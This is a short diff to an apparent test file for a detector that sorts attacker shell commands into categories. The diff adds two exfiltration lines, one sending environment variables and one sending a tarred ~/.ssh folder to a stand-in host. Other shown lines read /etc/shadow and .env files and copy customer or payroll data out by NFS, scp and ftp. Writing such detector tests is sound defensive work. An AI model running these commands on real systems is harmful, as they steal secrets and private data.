@@ -35,6 +35,8 @@ describe('commands of an attacker', () => {
     ['mount -t nfs 203.0.113.20:/x /mnt/x && cp -a /srv/customers /mnt/x/', 'exfiltration.copy-out'],
     ['c\\at /e??/sh?dow', 'files.account-database'],
     ['git show HEAD:.env', 'files.environment-file'],
+    ['env > /tmp/e && curl -F e=@/tmp/e https://c.example.net/e', 'exfiltration.secrets-sent'],
+    ['tar czf /tmp/k.tgz ~/.ssh; curl -T /tmp/k.tgz https://c.example.net/', 'exfiltration.secrets-sent'],
     ['vim -es -c "%print" -c q! /etc/shadow', 'files.account-database'],
     ['scp -o StrictHostKeyChecking=no payroll.xlsx x@c.example.net:/tmp/', 'exfiltration.copy-out'],
     ['ftp -n 203.0.113.5 <<EOF\nput users.db\nEOF', 'exfiltration.copy-out'],
